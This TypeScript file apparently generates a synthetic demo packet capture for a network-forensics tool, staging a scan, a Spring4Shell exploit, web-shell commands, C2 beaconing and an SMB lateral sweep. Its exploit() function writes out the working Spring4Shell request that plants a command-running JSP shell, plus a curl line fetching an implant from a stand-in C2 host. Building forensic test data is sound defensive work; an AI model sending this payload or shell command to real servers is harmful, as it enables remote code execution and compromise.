/**
 * The demo capture for `npm start`: about 45 minutes of one office subnet (≈ 2 MB), built
 * deterministically with the project's own frame builders and pcap writer, in the shape of
 * the incident Tracehound was founded on:
 *
 *   t ≈ 0–2700 s  users browse the orders web app on app01 (10.20.5.10:8080), with DNS
 *   t ≈ 600 s     a scanner (198.51.100.77) SYN-scans app01, then probes it with web requests
 *   t ≈ 720 s     it POSTs a Spring4Shell exploit (class.module.classLoader... parameters,
 *                 split over two TCP segments) that plants webapps/ROOT/tomcatwar.jsp
 *   t ≈ 735 s     it runs commands through /tomcatwar.jsp?pwd=j&cmd=...; app01 downloads a
 *                 stager from the C2 (198.51.100.200, static-cdn.example.net)
 *   t ≈ 800 s →   app01 beacons to the C2 over HTTP every ~60 s with jitter: GET with a
 *                 base64 Cookie; when tasked, POST /submit.php?id=…
 *   t ≈ 1500 s    app01 sweeps 10.20.5.0/24 on 445: ARP, then SMB2 NEGOTIATE and NTLMSSP
 *                 SESSION_SETUPs as CORP\Administrator: STATUS_LOGON_FAILURE (0xc000006d)
 *                 everywhere but app02 (10.20.5.11), which accepts (STATUS_SUCCESS, ADMIN$)
 *   t ≈ 1620 s →  app02 beacons to the same C2
 *
 * Addresses are documentation ones: 10.20.0.0/16 inside, 198.51.100.0/24 outside. TCP
 * conversations are whole: handshake, sequence and acknowledgement numbers advancing by
 * payload length, FIN or RST teardown, so reassembly works on them.
 */

import { PcapWriter } from '../capture/writer.js';
import { TCP_ACK, TCP_FIN, TCP_PSH, TCP_RST, TCP_SYN, tcpFrame, tcpOptions, udpFrame } from './packet.js';
import {
  Rng,
  USER_AGENTS,
  arpFrame,
  ascii,
  dnsQuery,
  dnsResponse,
  htmlBody,
  httpRequest,
  httpResponse,
  padFrame,
  smbSession,
  type HeaderList,
  type L2Host,
} from './traffic.js';

/** Who is who in the demo capture (tests and docs refer to these). */
export const DEMO = {
  gateway: '10.20.0.1',
  dns: '10.20.0.2',
  app01: '10.20.5.10',
  app02: '10.20.5.11',
  appPort: 8080,
  appName: 'app.corp.example',
  scanner: '198.51.100.77',
  c2: '198.51.100.200',
  c2Name: 'static-cdn.example.net',
  /** Hosts that answer the SMB sweep on 445 and refuse the logon. */
  smbFailures: ['10.20.5.12', '10.20.5.13', '10.20.5.14', '10.20.5.15', '10.20.5.16', '10.20.5.17', '10.20.5.18'],
  /** Hosts that are up (answer ARP) but have 445 closed. */
  smbClosed: ['10.20.5.20', '10.20.5.21', '10.20.5.22'],
  webshell: '/tomcatwar.jsp',
} as const;

export interface DemoOptions {
  seed?: number;
  /** Unix time of the first packet; default 2024-03-12 13:00:00 UTC. */
  startSec?: number;
}

export interface DemoSummary {
  packets: number;
  /** Frame bytes (captured lengths). */
  bytes: number;
  durationSec: number;
  beacons: { app01: number; app02: number };
}

const DEFAULT_START_SEC = 1710248400;
const DEFAULT_SEED = 0x5eed;
/** Length of the capture: room for ~30 beacons from app01 and ~18 from app02. */
const DURATION_US = 2700e6;
const MSS = 1460;
const SEC = 1e6;
const MS = 1e3;

interface Host extends L2Host {
  name?: string;
}

const GATEWAY_MAC = '00:1a:2b:3c:00:01';
const inside = (ip: string, mac: string, ttl = 128): Host => ({ ip, mac, ttl });
const outside = (ip: string, ttl: number): Host => ({ ip, mac: GATEWAY_MAC, ttl });

/** Frames with their times (µs since the start), written in time order at the end. */
class Timeline {
  readonly frames: { t: number; i: number; data: Uint8Array }[] = [];

  add(t: number, data: Uint8Array): void {
    this.frames.push({ t: Math.round(t), i: this.frames.length, data: padFrame(data) });
  }
}

const SYN_OPTS = tcpOptions([{ kind: 'mss', value: 1460 }, { kind: 'sackPerm' }, { kind: 'nop' }, { kind: 'wscale', shift: 7 }]);

/**
 * One TCP connection. Every call advances the connection's own clock, so its packets are in
 * order; seq/ack advance by payload length (+1 for SYN and FIN) as RFC 9293 §3.4 says.
 */
class Conn {
  t: number;
  private cseq: number;
  private sseq: number;
  private cid: number;
  private sid: number;

  constructor(
    private readonly tl: Timeline,
    private readonly rng: Rng,
    readonly c: Host,
    readonly s: Host,
    readonly cport: number,
    readonly sport: number,
    t: number,
    /** Round-trip time seen from the capture point, µs. */
    readonly rtt: number,
  ) {
    this.t = t;
    this.cseq = rng.u32();
    this.sseq = rng.u32();
    this.cid = rng.u32() & 0xffff;
    this.sid = rng.u32() & 0xffff;
  }

  wait(us: number): this {
    this.t += Math.max(1, Math.round(us));
    return this;
  }

  private put(fromClient: boolean, flags: number, payload?: Uint8Array, options?: Uint8Array): void {
    const a = fromClient ? this.c : this.s;
    const b = fromClient ? this.s : this.c;
    const frame = tcpFrame({
      srcIp: a.ip,
      dstIp: b.ip,
      srcMac: a.mac,
      dstMac: b.mac,
      ttl: a.ttl,
      id: fromClient ? this.cid++ & 0xffff : this.sid++ & 0xffff,
      sport: fromClient ? this.cport : this.sport,
      dport: fromClient ? this.sport : this.cport,
      seq: fromClient ? this.cseq : this.sseq,
      ack: flags & TCP_ACK ? (fromClient ? this.sseq : this.cseq) : 0,
      flags,
      win: flags & TCP_SYN ? 64240 : fromClient ? 502 : 510,
      ...(payload ? { payload } : {}),
      ...(options ? { options } : {}),
    });
    this.tl.add(this.t, frame);
    const n = (payload?.length ?? 0) + (flags & (TCP_SYN | TCP_FIN) ? 1 : 0);
    if (fromClient) this.cseq = (this.cseq + n) >>> 0;
    else this.sseq = (this.sseq + n) >>> 0;
  }

  /** SYN, SYN-ACK, ACK. */
  open(): this {
    this.put(true, TCP_SYN, undefined, SYN_OPTS);
    this.wait(this.rtt);
    this.put(false, TCP_SYN | TCP_ACK, undefined, SYN_OPTS);
    this.wait(this.rng.range(40, 200));
    this.put(true, TCP_ACK);
    return this.wait(this.rng.range(50, 400));
  }

  /**
   * One application message in segments of at most MSS bytes, or cut at `splits` (offsets
   * into data); the receiver ACKs every second segment and the end.
   */
  send(fromClient: boolean, data: Uint8Array, splits: readonly number[] = []): this {
    const cuts: number[] = [];
    if (splits.length) cuts.push(...splits.filter((x) => x > 0 && x < data.length), data.length);
    else for (let o = MSS; o < data.length + MSS; o += MSS) cuts.push(Math.min(o, data.length));
    let from = 0;
    let unacked = 0;
    for (const to of cuts) {
      this.put(fromClient, to === data.length ? TCP_PSH | TCP_ACK : TCP_ACK, data.subarray(from, to));
      from = to;
      unacked++;
      if (unacked === 2 && to !== data.length) {
        this.wait(this.rng.range(20, 120));
        this.put(!fromClient, TCP_ACK);
        unacked = 0;
      }
      this.wait(this.rng.range(15, 150));
    }
    this.wait(this.rng.range(100, 2000));
    this.put(!fromClient, TCP_ACK);
    return this.wait(this.rng.range(50, 300));
  }

  /** Request, server think time, response. */
  exchange(request: Uint8Array, response: Uint8Array, thinkUs = this.rng.range(800, 12000), splits: readonly number[] = []): this {
    this.send(true, request, splits);
    this.wait(thinkUs);
    return this.send(false, response);
  }

  /** FIN/ACK from `byClient`'s side, FIN/ACK back, last ACK. */
  close(byClient = true): this {
    this.put(byClient, TCP_FIN | TCP_ACK);
    this.wait(this.rtt / 2 + this.rng.range(50, 500));
    this.put(!byClient, TCP_FIN | TCP_ACK);
    this.wait(this.rtt / 2 + this.rng.range(50, 500));
    this.put(byClient, TCP_ACK);
    return this;
  }

  reset(byClient = true): this {
    this.put(byClient, TCP_RST | TCP_ACK);
    return this;
  }
}

class Demo {
  readonly tl = new Timeline();
  readonly rng: Rng;
  readonly gateway = inside(DEMO.gateway, GATEWAY_MAC, 64);
  readonly dns = inside(DEMO.dns, '00:15:5d:14:00:02');
  readonly app01 = inside(DEMO.app01, '00:50:56:a1:05:0a', 64);
  readonly app02 = inside(DEMO.app02, '00:50:56:a1:05:0b', 128);
  readonly scanner = outside(DEMO.scanner, 49);
  readonly c2 = outside(DEMO.c2, 52);
  readonly users: Host[] = [];
  private port = 49152;
  beacons = { app01: 0, app02: 0 };

  constructor(
    seed: number,
    readonly startSec: number,
  ) {
    this.rng = new Rng(seed);
    const ouis = ['f8:bc:12', '3c:52:82', '54:ee:75'];
    for (let i = 0; i < 24; i++) {
      const h = (v: number) => v.toString(16).padStart(2, '0');
      this.users.push(inside(`10.20.1.${20 + i}`, `${ouis[i % 3]!}:01:${h(i >> 8)}:${h(i & 0xff)}`));
    }
  }

  ephemeral(): number {
    this.port = this.port >= 65000 ? 49152 : this.port + this.rng.range(1, 40);
    return this.port;
  }

  conn(c: Host, s: Host, sport: number, t: number, rtt: number): Conn {
    return new Conn(this.tl, this.rng, c, s, this.ephemeral(), sport, t, rtt);
  }

  date(t: number): string {
    return new Date((this.startSec + Math.floor(t / SEC)) * 1000).toUTCString();
  }

  /** A DNS look-up of `name` by `client`; returns the time the answer arrives. */
  lookup(t: number, client: Host, name: string, addr: string | null): number {
    const id = this.rng.u32() & 0xffff;
    const sport = this.ephemeral();
    const q = udpFrame({ srcIp: client.ip, dstIp: this.dns.ip, srcMac: client.mac, dstMac: this.dns.mac, ttl: client.ttl, sport, dport: 53, payload: dnsQuery(id, name), id: this.rng.u32() & 0xffff });
    this.tl.add(t, q);
    const t2 = t + this.rng.range(300, 25000);
    const body = addr ? dnsResponse(id, name, [addr], { ttl: 300 }) : dnsResponse(id, name, [], { rcode: 3 });
    const r = udpFrame({ srcIp: this.dns.ip, dstIp: client.ip, srcMac: this.dns.mac, dstMac: client.mac, ttl: this.dns.ttl, sport: 53, dport: sport, payload: body, id: this.rng.u32() & 0xffff });
    this.tl.add(t2, r);
    return t2;
  }

  // -- background: users of the orders app -----------------------------------------
  // (Tomcat 8.5+ sends no reason phrase: "HTTP/1.1 200 ", hence the empty reasons.)

  private appPages: { path: string; type: string; body: Uint8Array }[] = [];

  private pages(): { path: string; type: string; body: Uint8Array }[] {
    if (this.appPages.length) return this.appPages;
    const r = this.rng;
    const css = ascii(Array.from({ length: 120 }, (_, i) => `.c${i}{margin:${i % 9}px;padding:${i % 5}px;color:#${(0x203040 + i * 0x10101).toString(16).slice(-6)}}\n`).join(''));
    const js = ascii(Array.from({ length: 260 }, (_, i) => `function o${i}(e){return fetch("/app/api/orders?page="+e).then(function(r){return r.json()})}\n`).join(''));
    const orders = (page: number) =>
      ascii(JSON.stringify({ page, orders: Array.from({ length: 25 }, (_, i) => ({ id: 40000 + page * 25 + i, customer: `C-${1000 + ((page * 31 + i * 7) % 900)}`, total: ((page * 977 + i * 131) % 50000) / 100, status: i % 4 ? 'shipped' : 'open' })) }));
    this.appPages = [
      { path: '/app/', type: 'text/html;charset=UTF-8', body: htmlBody(9200, 'Orders', r) },
      { path: '/app/static/app.css', type: 'text/css', body: css },
      { path: '/app/static/app.js', type: 'application/javascript', body: js },
      { path: '/app/api/orders?page=1', type: 'application/json', body: orders(1) },
      { path: '/app/api/orders?page=2', type: 'application/json', body: orders(2) },
      { path: '/app/orders/view?id=40017', type: 'text/html;charset=UTF-8', body: htmlBody(6100, 'Order 40017', r) },
    ];
    return this.appPages;
  }

  userSession(t: number, user: Host): void {
    const r = this.rng;
    if (r.chance(0.5)) t = this.lookup(t, user, DEMO.appName, DEMO.app01) + r.range(200, 3000);
    const c = this.conn(user, this.app01, DEMO.appPort, t, r.range(300, 900)).open();
    const agent = USER_AGENTS[r.int(USER_AGENTS.length)]!;
    const host = `${DEMO.appName}:${DEMO.appPort}`;
    const session = Array.from(r.bytes(16), (b) => b.toString(16).padStart(2, '0')).join('').toUpperCase();
    const pages = this.pages();
    const visits = [0, 1, 2, 3, ...Array.from({ length: r.range(0, 4) }, () => r.pick([3, 4, 5, 0]))];
    for (const [k, p] of visits.entries()) {
      const page = pages[p]!;
      const headers: HeaderList = [
        ['User-Agent', agent],
        ['Accept', page.type.startsWith('text/html') ? 'text/html,application/xhtml+xml,*/*;q=0.8' : '*/*'],
        ['Accept-Language', 'en-US,en;q=0.9'],
        ['Connection', 'keep-alive'],
        ...(k > 0 ? [['Cookie', `JSESSIONID=${session}`] as const] : []),
      ];
      const resHeaders: HeaderList = [
        ['Date', this.date(c.t)],
        ['Content-Type', page.type],
        ...(k === 0 ? [['Set-Cookie', `JSESSIONID=${session}; Path=/app; HttpOnly`] as const] : []),
        ['Keep-Alive', 'timeout=20'],
        ['Connection', 'keep-alive'],
      ];
      c.exchange(httpRequest('GET', page.path, host, headers), httpResponse(200, '', resHeaders, page.body), r.range(1500, 25000));
      c.wait(k < 3 ? r.range(5 * MS, 60 * MS) : r.range(2 * SEC, 15 * SEC));
    }
    if (r.chance(0.4)) {
      const form = `q=${r.pick(['pending', 'acme', 'invoice 2024', 'refund'])}&status=open`;
      c.exchange(
        httpRequest('POST', '/app/search', host, [['User-Agent', agent], ['Content-Type', 'application/x-www-form-urlencoded'], ['Cookie', `JSESSIONID=${session}`]], form),
        httpResponse(200, 'OK', [['Date', this.date(c.t)], ['Content-Type', 'text/html;charset=UTF-8']], htmlBody(r.range(3000, 7000), 'Search', r)),
      );
    }
    c.wait(r.range(3 * SEC, 20 * SEC)).close(r.chance(0.7));
  }

  backgroundDns(t: number, user: Host): void {
    const names: [string, string | null][] = [
      ['www.example.com', '203.0.113.10'],
      ['login.example.org', '203.0.113.24'],
      ['time.example.net', '203.0.113.5'],
      ['wpad.corp.example', null],
      ['fileshare.corp.example', '10.20.5.12'],
    ];
    const [name, addr] = this.rng.pick(names);
    this.lookup(t, user, name, addr);
  }

  // -- the attack ---------------------------------------------------------------------

  portScan(t: number): number {
    const r = this.rng;
    const open = new Set([22, DEMO.appPort]);
    const ports = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 2049, 3306, 3389, 5432, 5900, 6379, 8000, 8009, 8080, 8081, 8443, 8888, 9000, 9200];
    for (let p = 1; p <= 1024; p += r.range(1, 6)) if (!ports.includes(p)) ports.push(p);
    // Scanners shuffle their probe order.
    for (let i = ports.length - 1; i > 0; i--) {
      const j = r.int(i + 1);
      [ports[i], ports[j]] = [ports[j]!, ports[i]!];
    }
    const sport = 40000 + r.int(20000);
    for (const port of ports) {
      const seq = r.u32();
      const base = { srcIp: this.scanner.ip, dstIp: this.app01.ip, srcMac: this.scanner.mac, dstMac: this.app01.mac, ttl: this.scanner.ttl, sport, dport: port };
      const back = { srcIp: this.app01.ip, dstIp: this.scanner.ip, srcMac: this.app01.mac, dstMac: this.scanner.mac, ttl: this.app01.ttl, sport: port, dport: sport };
      // A SYN scan (half-open): SYN; RST/ACK from closed ports; SYN/ACK then the scanner's RST from open ones.
      this.tl.add(t, tcpFrame({ ...base, seq, ack: 0, flags: TCP_SYN, win: 1024, options: [{ kind: 'mss', value: 1460 }], id: r.u32() & 0xffff, df: false }));
      const t2 = t + r.range(30 * MS, 45 * MS);
      if (open.has(port)) {
        const sseq = r.u32();
        this.tl.add(t2, tcpFrame({ ...back, seq: sseq, ack: (seq + 1) >>> 0, flags: TCP_SYN | TCP_ACK, win: 64240, options: SYN_OPTS, id: 0 }));
        this.tl.add(t2 + r.range(30 * MS, 45 * MS), tcpFrame({ ...base, seq: (seq + 1) >>> 0, ack: 0, flags: TCP_RST, win: 0, id: r.u32() & 0xffff, df: false }));
      } else if (port !== 445 && port !== 139) {
        this.tl.add(t2, tcpFrame({ ...back, seq: 0, ack: (seq + 1) >>> 0, flags: TCP_RST | TCP_ACK, win: 0, id: 0 }));
      } // 139/445: filtered by the host firewall, no answer.
      t += r.range(2 * MS, 40 * MS);
    }
    return t;
  }

  webProbes(t: number): number {
    const r = this.rng;
    const host = `${DEMO.app01}:${DEMO.appPort}`;
    const probes: [string, string, number, string][] = [
      ['/', 'Mozilla/5.0 zgrab/0.x', 404, ''],
      ['/robots.txt', 'Mozilla/5.0 zgrab/0.x', 404, ''],
      ['/manager/html', 'python-requests/2.31.0', 403, ''],
      ['/.env', 'python-requests/2.31.0', 404, ''],
      ['/app/', 'python-requests/2.31.0', 200, 'html'],
      ['/app/greeting', 'python-requests/2.31.0', 200, 'greet'],
    ];
    for (const [path, ua, status, kind] of probes) {
      const c = this.conn(this.scanner, this.app01, DEMO.appPort, t, r.range(38 * MS, 46 * MS)).open();
      const body =
        kind === 'html'
          ? this.pages()[0]!.body
          : kind === 'greet'
            ? ascii('<html><body><h1>Hello, guest!</h1></body></html>\n')
            : ascii(`<!doctype html><html lang="en"><head><title>HTTP Status ${status}</title></head><body><h1>HTTP Status ${status}</h1></body></html>`);
      c.exchange(
        httpRequest('GET', path, host, [['User-Agent', ua], ['Accept', '*/*'], ['Connection', 'close']]),
        httpResponse(status, '', [['Date', this.date(c.t)], ['Content-Type', 'text/html;charset=UTF-8'], ['Connection', 'close']], body),
      );
      c.close(false);
      t = c.t + r.range(1 * SEC, 6 * SEC);
    }
    return t;
  }

  exploit(t: number): number {
    const r = this.rng;
    const host = `${DEMO.app01}:${DEMO.appPort}`;
    const p = 'class.module.classLoader.resources.context.parent.pipeline.first.';
    // The public Spring4Shell PoC (CVE-2022-22965): rewrite Tomcat's access-log valve so it
    // writes a JSP web shell to webapps/ROOT/tomcatwar.jsp. %{c1}i etc. pull the JSP
    // fragments from the request headers below.
    const pattern =
      '%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20int%20a%20%3D%20-1%3B%20byte%5B%5D%20b%20%3D%20new%20byte%5B2048%5D%3B%20while((a%3Din.read(b))!%3D-1)%7B%20out.println(new%20String(b))%3B%20%7D%20%7D%20%25%7Bsuffix%7Di';
    const body = `${p}pattern=${pattern}&${p}suffix=.jsp&${p}directory=webapps/ROOT&${p}prefix=tomcatwar&${p}fileDateFormat=`;
    const req = httpRequest(
      'POST',
      '/app/greeting',
      host,
      [
        ['User-Agent', 'python-requests/2.31.0'],
        ['Accept-Encoding', 'gzip, deflate'],
        ['Accept', '*/*'],
        ['Connection', 'keep-alive'],
        ['suffix', '%>//'],
        ['c1', 'Runtime'],
        ['c2', '<%'],
        ['DNT', '1'],
        ['Content-Type', 'application/x-www-form-urlencoded'],
      ],
      body,
    );
    // Two segments: the headers and the first parameter's start, then the rest.
    const headEnd = req.length - body.length;
    const c = this.conn(this.scanner, this.app01, DEMO.appPort, t, r.range(38 * MS, 46 * MS)).open();
    c.exchange(req, httpResponse(200, '', [['Date', this.date(c.t)], ['Content-Type', 'text/html;charset=UTF-8']], '<html><body><h1>Hello, guest!</h1></body></html>\n'), r.range(2 * MS, 8 * MS), [headEnd + 180]);
    c.wait(r.range(200 * MS, 900 * MS)).close(true);
    t = c.t + 12 * SEC;

    const shell = (cmd: string, output: string, at: number) => {
      const k = this.conn(this.scanner, this.app01, DEMO.appPort, at, r.range(38 * MS, 46 * MS)).open();
      k.exchange(
        httpRequest('GET', `${DEMO.webshell}?pwd=j&cmd=${cmd}`, host, [['User-Agent', 'python-requests/2.31.0'], ['Accept', '*/*'], ['Connection', 'keep-alive']]),
        httpResponse(200, '', [['Date', this.date(k.t)], ['Content-Type', 'text/html;charset=UTF-8']], `${output}\n\n//\n- if("j".equals(request.getParameter("pwd"))){ ... }\n`),
        r.range(20 * MS, 80 * MS),
      );
      k.close(true);
      return k.t;
    };
    t = shell('whoami', 'root', t) + r.range(8 * SEC, 15 * SEC);
    t = shell('whoami', 'root', t) + r.range(5 * SEC, 10 * SEC);
    t = shell('id', 'uid=0(root) gid=0(root) groups=0(root)', t) + r.range(5 * SEC, 10 * SEC);
    const fetchAt = shell('curl%20-s%20-o%20/tmp/.cache-upd%20http://static-cdn.example.net/dl/update.bin', '', t);
    // The shell's curl: app01 resolves the C2 and downloads the implant.
    const dl = this.lookup(fetchAt - 60 * MS, this.app01, DEMO.c2Name, DEMO.c2) + r.range(1 * MS, 5 * MS);
    const k = this.conn(this.app01, this.c2, 80, dl, r.range(30 * MS, 40 * MS)).open();
    k.exchange(
      httpRequest('GET', '/dl/update.bin', DEMO.c2Name, [['User-Agent', 'curl/7.74.0'], ['Accept', '*/*']]),
      httpResponse(200, 'OK', [['Date', this.date(k.t)], ['Server', 'nginx'], ['Content-Type', 'application/octet-stream']], r.bytes(61440)),
      r.range(30 * MS, 60 * MS),
    );
    k.close(false);
    return k.t;
  }

  /** One check-in: GET with the metadata cookie; when tasked, POST /submit.php with the output. */
  beacon(t: number, from: Host, tasked: boolean): void {
    const r = this.rng;
    const uri = r.pick(['/pixel.gif', '/__utm.gif', '/ga.js', '/updates.rss', '/fwlink', '/dpixel']);
    const ua = 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; BOIE9;ENUS)';
    const cookie = Buffer.from(r.bytes(128)).toString('base64');
    const c = this.conn(from, this.c2, 80, t, r.range(30 * MS, 42 * MS)).open();
    const task = tasked ? r.bytes(r.range(48, 240)) : new Uint8Array(0);
    c.exchange(
      httpRequest('GET', uri, DEMO.c2Name, [['Accept', '*/*'], ['Cookie', cookie], ['User-Agent', ua], ['Connection', 'Keep-Alive'], ['Cache-Control', 'no-cache']]),
      httpResponse(200, 'OK', [['Date', this.date(c.t)], ['Content-Type', 'application/octet-stream']], task),
      r.range(5 * MS, 30 * MS),
    );
    c.close(true);
    if (!tasked) return;
    const p = this.conn(from, this.c2, 80, c.t + r.range(300 * MS, 3 * SEC), r.range(30 * MS, 42 * MS)).open();
    p.exchange(
      httpRequest('POST', `/submit.php?id=${r.range(10000, 99999999)}`, DEMO.c2Name, [['Accept', '*/*'], ['User-Agent', ua], ['Content-Type', 'application/octet-stream'], ['Connection', 'Keep-Alive']], r.bytes(r.range(68, 900))),
      httpResponse(200, 'OK', [['Date', this.date(p.t)], ['Content-Type', 'text/html']], ''),
      r.range(5 * MS, 30 * MS),
    );
    p.close(true);
  }

  beaconing(from: Host, start: number, key: 'app01' | 'app02'): void {
    const r = this.rng;
    let t = start;
    let n = 0;
    let nextLookup = 0;
    while (t < DURATION_US - 5 * SEC) {
      // The resolver's answer has a 300 s TTL: look the C2 up again when it expires.
      if (t >= nextLookup) {
        t = this.lookup(t, from, DEMO.c2Name, DEMO.c2) + r.range(1 * MS, 4 * MS);
        nextLookup = t + 300 * SEC;
      }
      this.beacon(t, from, n % 4 === 2 || r.chance(0.12));
      n++;
      // 60 s sleep with up to ±15 % jitter.
      t += 60 * SEC * (1 + (r.float() * 0.3 - 0.15));
    }
    this.beacons[key] = n;
  }

  smbSweep(t: number): number {
    const r = this.rng;
    const failures = new Set<string>(DEMO.smbFailures);
    const closed = new Set<string>(DEMO.smbClosed);
    for (let last = 1; last <= 254; last++) {
      const ip = `10.20.5.${last}`;
      if (ip === DEMO.app01) continue;
      const h = (v: number) => v.toString(16).padStart(2, '0');
      const target: Host = ip === DEMO.app02 ? this.app02 : inside(ip, `00:50:56:a1:05:${h(last)}`);
      const up = ip === DEMO.app02 || failures.has(ip) || closed.has(ip);
      this.tl.add(t, arpFrame(1, this.app01, target));
      if (up) {
        const t1 = t + r.range(200, 900);
        this.tl.add(t1, arpFrame(2, target, this.app01));
        const t2 = t1 + r.range(50, 300);
        if (closed.has(ip)) {
          // SYN answered by RST/ACK: nothing listens on 445.
          const sport = this.ephemeral();
          const seq = r.u32();
          this.tl.add(t2, tcpFrame({ srcIp: this.app01.ip, dstIp: ip, srcMac: this.app01.mac, dstMac: target.mac, ttl: this.app01.ttl, sport, dport: 445, seq, ack: 0, flags: TCP_SYN, win: 64240, options: SYN_OPTS }));
          this.tl.add(t2 + r.range(200, 600), tcpFrame({ srcIp: ip, dstIp: this.app01.ip, srcMac: target.mac, dstMac: this.app01.mac, ttl: 64, sport: 445, dport: sport, seq: 0, ack: (seq + 1) >>> 0, flags: TCP_RST | TCP_ACK, win: 0 }));
        } else {
          const c = this.conn(this.app01, target, 445, t2, r.range(300, 900)).open();
          const success = ip === DEMO.app02;
          const msgs = smbSession({
            domain: 'CORP',
            dnsDomain: 'corp.example',
            server: success ? 'APP02' : `WS5-${last}`,
            user: 'Administrator',
            workstation: 'APP01',
            share: `\\\\${ip}\\ADMIN$`,
            logon: success ? 'success' : 'failure',
            reads: [],
            sessionId: 0x0000100000000000n + BigInt(last * 0x10001),
            unixSec: this.startSec + Math.floor(t / SEC),
            rng: r,
          });
          for (let i = 0; i < msgs.length; i += 2) {
            c.exchange(msgs[i]!.data, msgs[i + 1]!.data, r.range(300, 4000));
          }
          c.close(true);
        }
      }
      t += r.range(15 * MS, 45 * MS);
    }
    return t;
  }

  build(): void {
    const r = this.rng;
    // Users: sessions spread over the whole capture, a few DNS look-ups of other names.
    for (let i = 0; i < 36; i++) this.userSession(r.range(0, DURATION_US - 120 * SEC), r.pick(this.users));
    for (let i = 0; i < 160; i++) this.backgroundDns(r.range(0, DURATION_US - 1 * SEC), r.pick(this.users));
    // Hosts refreshing the gateway's ARP entry.
    for (let i = 0; i < 30; i++) {
      const t = r.range(0, DURATION_US - 1 * SEC);
      const u = r.pick(this.users);
      this.tl.add(t, arpFrame(1, u, this.gateway));
      this.tl.add(t + r.range(100, 700), arpFrame(2, this.gateway, u));
    }
    let t = this.portScan(600 * SEC);
    t = this.webProbes(t + 25 * SEC);
    t = this.exploit(Math.max(t + 5 * SEC, 720 * SEC));
    this.beaconing(this.app01, Math.max(t + 20 * SEC, 800 * SEC), 'app01');
    const sweepEnd = this.smbSweep(1500 * SEC);
    this.beaconing(this.app02, Math.max(sweepEnd + 90 * SEC, 1620 * SEC), 'app02');
  }
}

/**
 * Writes the demo capture (classic pcap, Ethernet, microsecond timestamps) to `path`.
 * Same options, same bytes.
 */
export function writeDemoCapture(path: string, opts: DemoOptions = {}): DemoSummary {
  const startSec = opts.startSec ?? DEFAULT_START_SEC;
  const demo = new Demo(opts.seed ?? DEFAULT_SEED, startSec);
  demo.build();
  const frames = demo.tl.frames.sort((a, b) => a.t - b.t || a.i - b.i);
  const w = new PcapWriter({ path });
  let bytes = 0;
  try {
    for (const f of frames) {
      const s = Math.floor(f.t / SEC);
      w.packet(startSec + s, (f.t - s * SEC) * 1000, f.data);
      bytes += f.data.length;
    }
  } finally {
    w.close();
  }
  const last = frames.length ? frames[frames.length - 1]!.t : 0;
  return { packets: frames.length, bytes, durationSec: last / SEC, beacons: demo.beacons };
}
